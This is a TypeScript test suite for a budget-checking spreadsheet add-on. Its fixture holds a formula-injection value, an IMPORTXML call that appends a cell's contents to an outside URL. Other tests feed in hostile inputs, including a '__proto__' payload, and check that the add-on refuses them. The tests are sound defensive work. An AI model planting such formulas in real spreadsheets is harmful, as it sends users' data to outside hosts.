import { beforeAll, describe, expect, it } from 'vitest';
import { makeAddonCode } from '../../../build/bundle-addon.js';
import { makeSidebarPage } from '../../../build/bundle-sidebar.js';
import type { Place, Reply, Shown } from '../../../src/hosts/addon/server-calls.js';
import { keyOf } from '../../../src/hosts/preview/stand-in/cells.js';
import { workbookOfStore } from '../../../src/hosts/preview/stand-in/store-of-workbook.js';
import type { SidebarView } from '../../../src/present/sidebar-view.js';
import { calc, sheetOf, workbookOf } from '../../support/sheet-of.js';
import { type OpenScript, openScript, type Opening } from './open-script.js';

let code = '';
let page = '';
beforeAll(async () => {
  [code, page] = await Promise.all([makeAddonCode(), makeSidebarPage()]);
});

const formula = '=IMPORTXML("https://example.org/?"&A1,"//a")';

/** A budget with lump sums, and words in it that want to be a formula. */
function budget(extraLines = 0) {
  const extra = Array.from({ length: extraLines }, (_, index) => [
    `Visit to village ${index + 1}`,
    'trip',
    2,
    150,
    calc(`=C${index + 6}*D${index + 6}`, 300),
  ]);
  return sheetOf('Budget', [
    ['Budget line', 'Unit', 'Quantity', 'Unit cost', 'Amount (USD)'],
    ['Project manager, 50%', 'month', 12, 1500, calc('=C2*D2', 18_000)],
    ['Exchange workshop', 'lump sum', 1, 12_000, 12_000],
    [formula, null, null, null, 5_000],
    ['Office rent', 'month', 12, 250, calc('=C5*D5', 3_000)],
    ...extra,
    ['Total', null, null, null, calc(`=SUM(E2:E${5 + extraLines})`, 38_000 + extraLines * 300)],
  ]);
}

function open(options: Partial<Opening> = {}): OpenScript {
  return openScript({ code, html: { sidebar: page }, workbook: workbookOf(budget()), ...options });
}

function ask<T>({ standIn }: OpenScript, name: string, ...args: readonly unknown[]): Reply<T> {
  return JSON.parse(String(standIn.call(name, args))) as Reply<T>;
}

function viewOf(script: OpenScript): SidebarView {
  const reply = ask<SidebarView>(script, 'recheck');
  if (!reply.ok) throw new Error(reply.message);
  return reply.value;
}

function placesIn(view: SidebarView): readonly Place[] {
  return view.sections
    .flatMap(({ troubles }) => troubles.flatMap(({ findings }) => findings))
    .flatMap(({ place }) => (place ? [place] : []));
}

describe('Check this budget', () => {
  it('opens the sidebar with the result already in its page', () => {
    const script = open();
    script.standIn.run('checkBudget', [], 'FULL');
    const { sidebar, alerts } = script.standIn.ui;
    expect(alerts).toEqual([]);
    expect(sidebar?.title).toBe('Even Terms');
    const [, json = ''] =
      /<script type="application\/json"[^>]*>([^<]*)<\/script>/.exec(sidebar?.html ?? '') ?? [];
    expect((JSON.parse(json) as SidebarView).head).toEqual(viewOf(script).head);
  });

  it('costs no more calls in a long budget than in a short one, hidden rows apart', () => {
    const callsFor = (lines: number) => {
      const script = open({ workbook: workbookOf(budget(lines)) });
      script.standIn.run('checkBudget', [], 'FULL');
      return script.calls() - script.calls(/isRowHidden/);
    };
    const few = callsFor(5);
    expect(callsFor(700)).toBe(few);
    expect(few).toBeLessThan(60);
  });

  it('changes nothing in the spreadsheet', () => {
    const script = open();
    const before = JSON.stringify(workbookOfStore(script.store));
    script.store.drain();
    script.standIn.run('checkBudget', [], 'FULL');
    expect(script.store.drain()).toEqual([]);
    expect(JSON.stringify(workbookOfStore(script.store))).toBe(before);
  });

  it('says what to do where the platform fails, in a dialog', () => {
    const script = open({
      interruption: (member) => {
        if (member === 'Range.getValues') throw new Error('Dienst nicht verfügbar');
      },
    });
    script.standIn.run('checkBudget', [], 'FULL');
    expect(script.standIn.ui.alerts.join()).toMatch(/Please try again.*Dienst nicht verfügbar/s);
  });

  it('of an empty spreadsheet is no trouble', () => {
    const script = open({ workbook: workbookOf(sheetOf('Sheet1', [])) });
    script.standIn.run('checkBudget', [], 'FULL');
    expect(script.standIn.ui.alerts).toEqual([]);
    expect(viewOf(script).head.firstSteps).not.toBeNull();
  });
});

describe('Create transparency report', () => {
  it('writes a tab with the findings and says where it is', () => {
    const script = open();
    script.standIn.run('createTransparencyReport', [], 'FULL');
    expect(script.standIn.ui.alerts).toEqual([]);
    expect(script.standIn.ui.toasts[0]?.message).toBe(
      'The report is in the tab "Transparency report".',
    );
    const formulas = [...script.sheet('Transparency report').cells.values()].flatMap(
      ({ formula }) => formula ?? [],
    );
    const { id } = script.sheet('Budget');
    expect(formulas).toContain(`=HYPERLINK("#gid=${id}&range=E3";"E3")`);
  });

  it('runs nothing that partners wrote', () => {
    const script = open();
    script.standIn.run('createTransparencyReport', [], 'FULL');
    const cells = [...script.sheet('Transparency report').cells.values()];
    const formulas = cells.flatMap(({ formula }) => formula ?? []);
    const link = /^=HYPERLINK\("#gid=\d+&range=[A-Z\d:]+";"[A-Z\d:, …]+"\)$/;
    expect(formulas.filter((formula) => !link.test(formula))).toEqual([]);
    expect(cells.some(({ value }) => String(value).includes('IMPORTXML'))).toBe(true);
  });

  it('twice leaves one report, and the second does not read the first', () => {
    const script = open();
    script.standIn.run('createTransparencyReport', [], 'FULL');
    const before = viewOf(script).head;
    script.standIn.run('createTransparencyReport', [], 'FULL');
    expect(script.store.sheets.map(({ name }) => name)).toEqual(['Budget', 'Transparency report']);
    expect(viewOf(script).head).toEqual(before);
  });

  it('by two people at once is one after the other, and the second is told', () => {
    const script = open({ lockHeldElsewhere: (kind) => kind === 'document' });
    script.standIn.run('createTransparencyReport', [], 'FULL');
    expect(script.standIn.ui.alerts.join()).toMatch(/for somebody else .* try again in a minute/);
    expect(ask(script, 'createReport')).toMatchObject({ ok: false, code: 'busy' });
    expect(script.store.sheets).toHaveLength(1);
  });

  it('can be asked for by the sidebar', () => {
    expect(ask(open(), 'createReport')).toEqual({
      ok: true,
      value: { sheetName: 'Transparency report' },
    });
  });

  it('answers the sidebar with a sentence where the platform fails', () => {
    const script = open({
      interruption: (member) => {
        if (member === 'Spreadsheet.insertSheet') throw new Error('No permission');
      },
    });
    const reply = ask(script, 'createReport');
    expect(reply).toMatchObject({ ok: false, code: 'failed' });
    expect(reply.ok ? '' : reply.message).toMatch(/No permission/);
  });
});

describe('Show in sheet', () => {
  const show = (script: OpenScript, place: unknown) => ask<Shown>(script, 'showInSheet', place);

  it('selects the cells and says that they are as they were', () => {
    const script = open();
    const place = placesIn(viewOf(script)).find(({ range }) => range === 'E3');
    expect(show(script, JSON.stringify(place))).toEqual({ ok: true, value: { unchanged: true } });
    expect(script.store.selection).toEqual({ top: 3, left: 5, bottom: 3, right: 5 });
  });

  it('says so of every finding', () => {
    const script = open();
    const places = placesIn(viewOf(script));
    expect(places.length).toBeGreaterThan(1);
    for (const place of places) {
      expect(show(script, JSON.stringify(place))).toEqual({ ok: true, value: { unchanged: true } });
    }
  });

  it('says when somebody has changed them since', () => {
    const script = open();
    const place = placesIn(viewOf(script)).find(({ range }) => range === 'E3');
    script.sheet('Budget').cells.set(keyOf(3, 5), { value: 11_000 });
    expect(show(script, JSON.stringify(place))).toEqual({ ok: true, value: { unchanged: false } });
    expect(script.store.selection.top).toBe(3);
  });

  it('goes as near as it can where the rows are gone', () => {
    const script = open();
    const place = JSON.stringify({ sheet: 'Budget', range: 'B5000:C5001', seen: '' });
    expect(show(script, place)).toEqual({ ok: true, value: { unchanged: false } });
    expect(script.store.selection).toMatchObject({ top: 1000, left: 2 });
  });

  it('says when the tab is gone or hidden, and what to do', () => {
    const script = open({
      workbook: workbookOf(budget(), sheetOf('Old', [[1]], { hidden: true })),
    });
    expect(show(script, JSON.stringify({ sheet: 'Gone', range: 'A1', seen: '' }))).toMatchObject({
      code: 'no-such-sheet',
      message:
        'The tab "Gone" is no longer in this spreadsheet. Check the budget again to see what has changed.',
    });
    expect(show(script, JSON.stringify({ sheet: 'Old', range: 'A1', seen: '' }))).toMatchObject({
      code: 'hidden-sheet',
    });
  });

  it.each([
    ['nothing', undefined],
    ['a number', 7],
    ['an object', { sheet: 'Budget', range: 'A1', seen: '' }],
    ['no JSON', '{sheet:'],
    ['a list', '[]'],
    ['null', 'null'],
    ['a place without a range', '{"sheet":"Budget","seen":""}'],
    ['a place with more to it', '{"sheet":"Budget","range":"A1","seen":"","and":1}'],
    ['a range of whole columns', '{"sheet":"Budget","range":"A:C","seen":""}'],
    ['a range in another tab', '{"sheet":"Budget","range":"Old!A1","seen":""}'],
    ['a range too large to look at', '{"sheet":"Budget","range":"A1:ZZ9999999","seen":""}'],
    ['a prototype', '{"__proto__":{"sheet":"Budget"},"range":"A1","seen":""}'],
    ['a very long text', JSON.stringify({ sheet: 'x'.repeat(5000), range: 'A1', seen: '' })],
  ])('refuses %s', (_, place) => {
    expect(show(open(), place)).toMatchObject({ ok: false, code: 'bad-request' });
  });
});
